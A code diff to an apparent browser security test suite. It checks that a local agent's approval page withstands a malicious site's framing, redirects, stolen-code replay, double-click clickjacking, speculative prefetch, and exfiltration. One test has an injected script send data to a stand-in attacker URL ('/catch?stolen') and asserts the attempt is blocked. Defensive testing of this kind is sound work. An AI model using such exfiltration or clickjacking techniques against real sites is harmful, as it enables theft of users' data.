@@ -36,7 +36,8 @@ for (const [what, tag, attribute] of [["a frame", "iframe", "src"], ["an object"
         document.body.append(element);
       }), [tag, attribute, address]));
       assert.ok(calls.every(({ status }) => status === 403));
-      for (const frame of page.frames()) assert.equal(await frame.locator("input").count(), 0);
+      assert.equal(await page.locator("input").count(), 0);
+      assert.ok(page.frames().every((frame) => !frame.url().startsWith(b.agent.origin) || frame.url() === "chrome-error://chromewebdata/"));
     }
   }), cancelled);
 }
@@ -81,9 +82,9 @@ attack(b, "a link of a site does not lead to the agent's page", () => asked(asyn
 attack(b, "a redirect of a site does not lead to the agent's page", () => asked(async (address) => {
   b.sites.redirect("/to-the-page", address);
   const from = b.tap.calls.length;
-  const page = await b.open(`${EVIL}/to-the-page`);
+  const page = await b.open(`${EVIL}/`);
+  await page.evaluate(() => { location.href = "/to-the-page"; });
   const call = await b.answered("GET", "/", from);
-  // Typed into the address bar it comes from nowhere, and the redirect makes it the site's.
   assert.deepEqual([call.headers["sec-fetch-site"], call.status], ["cross-site", 403]);
   assert.equal(await page.locator("input").count(), 0);
 }), cancelled);
@@ -106,7 +107,7 @@ attack(b, "a stolen code is not exchanged by a site", () => asked(async (address
     for (const options of [json({ code }), { method: "POST", mode: "no-cors", body: JSON.stringify({ code }) }]) {
       const { result, calls } = await b.asked(() => attempt(page, `${b.agent.origin}/page/open`, options));
       assert.deepEqual(result, UNREADABLE);
-      assert.ok(calls.length === 1 && calls[0].status === 403);
+      assert.deepEqual(calls.map(({ status }) => status >= 400), [true], JSON.stringify(calls));
     }
   }
 }), cancelled);
@@ -127,12 +128,8 @@ attack(b, "a code that is used twice closes both windows, and nothing is signed"
   await first.getByText("页面未授权").waitFor();
   assert.equal(await first.locator("input").count(), 0);
   // Nobody has a window for it any more: it ends when the site gives up.
-  await b.site.reload();
-  await b.site.evaluate(async (port) => {
-    const { Agent } = await import("/dist/index.js");
-    globalThis.agent = await Agent.connect({ ports: [port] });
-  }, b.agent.port);
-  await assert.rejects(signing.ended);
+  await b.tidy();
+  assert.equal(await signing.ended, "site-left");
 }, { log: [`${SITE} sign site-left`], pages: 1 });
 
 attack(b, "a site presses no button of the page, with stolen form and session", () => shown(async (window) => {
@@ -144,7 +141,7 @@ attack(b, "a site presses no button of the page, with stolen form and session", 
     const { result, calls } = await b.asked(() => attempt(b.site, b.agent.origin + path, request));
     assert.deepEqual(result, UNREADABLE);
     // The page itself looks again each second.
-    assert.ok(calls.filter(({ headers }) => headers.origin === SITE).every(({ method, status }) => method === "OPTIONS" && status === 403));
+    assert.ok(calls.filter(({ headers }) => headers.origin === SITE).every(({ method, status }) => method === "OPTIONS" && status >= 400));
   }
   assert.equal(await window.locator("input").count(), 1);
 }), cancelled);
@@ -232,9 +229,8 @@ attack(b, "a script that got into the page does not run", () => shown(async (win
 }), cancelled);
 
 attack(b, "a script that got into the page could send nothing away", () => shown(async (window) => {
-  const sent = [];
   b.sites.put("/catch", "", { "access-control-allow-origin": "*" });
-  b.context.on("request", (request) => { if (request.url().startsWith(EVIL)) sent.push(request.failure() ?? request.url()); });
+  const before = b.sites.requests.length;
   const results = await window.evaluate(async (url) => {
     const loaded = (element, where) => new Promise((resolve) => {
       for (const event of ["load", "error"]) element.addEventListener(event, () => resolve(event));
@@ -256,7 +252,7 @@ attack(b, "a script that got into the page could send nothing away", () => shown
   }, `${EVIL}/catch?stolen`);
   assert.deepEqual(results.outcomes, ["blocked", "error", "error"]);
   for (const rule of ["connect-src", "img-src", "form-action"]) assert.ok(results.violations.includes(rule), rule);
-  assert.deepEqual(sent.filter((what) => typeof what === "string"), []);
+  assert.deepEqual(b.sites.requests.slice(before), []);
 }), cancelled);
 
 attack(b, "markup in a message is shown and not obeyed", () => shown(async (window) => {
@@ -280,7 +276,12 @@ attack(b, "an approval is not given by the second half of a double click", async
   const window = await b.window();
   const allow = window.getByRole("button", { name: "允许" });
   assert.equal(await allow.isDisabled(), true);
-  await allow.dispatchEvent("click");
+  const words = await allow.locator("span").first().boundingBox();
+  await window.mouse.click(words.x + words.width / 2, words.y + words.height / 2);
+  const edge = await allow.boundingBox();
+  await window.mouse.click(edge.x + 3, edge.y + 3);
+  await allow.locator("span").first().dispatchEvent("click");
+  assert.equal(await allow.isDisabled(), true, "all clicks came in time");
   await window.getByRole("button", { name: "拒绝" }).click();
   assert.equal((await asking).status, 403);
 }, { log: [`${EVIL} pairing denied`], pages: 1 });
@@ -295,14 +296,16 @@ attack(b, "reloading and going back bring no code and no PIN back", () => shown(
   assert.equal(shown[0], "password");
 }), cancelled);
 
-attack(b, "prerendering and speculation open no page", () => asked(async (address) => {
-  const { calls } = await b.asked(async () => {
-    b.sites.put("/speculation", `<!doctype html><script type="speculationrules">${JSON.stringify({
-      prefetch: [{ source: "list", urls: [address] }], prerender: [{ source: "list", urls: [address] }],
-    })}</script>`);
-    const page = await b.open(`${EVIL}/speculation`);
-    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
-  });
-  // Chromium does neither for an address without TLS of another site; if it asked, it would be refused.
-  assert.ok(calls.every(({ status }) => status === 403));
+attack(b, "a page that is fetched ahead by a site's speculation rules is refused, and so is the way to it", () => asked(async (address) => {
+  const from = b.tap.calls.length;
+  const rules = { prefetch: [{ source: "list", urls: [address], eagerness: "immediate" }], prerender: [{ source: "list", urls: [address] }] };
+  b.sites.put("/speculation", `<!doctype html><script type="speculationrules">${JSON.stringify(rules)}</script>`);
+  const page = await b.open(`${EVIL}/speculation`);
+  const ahead = await b.answered("GET", "/", from);
+  // Chromium says "none", as if the user had typed the address.
+  assert.deepEqual([ahead.headers["sec-purpose"], ahead.headers["sec-fetch-site"], ahead.status], ["prefetch", "none", 403]);
+  await page.evaluate((url) => { location.href = url; }, address);
+  await page.waitForURL((url) => url.origin === b.agent.origin);
+  assert.equal(await page.locator("input").count(), 0);
+  assert.ok(b.tap.calls.slice(from).every(({ status }) => status === 403));
 }), cancelled);
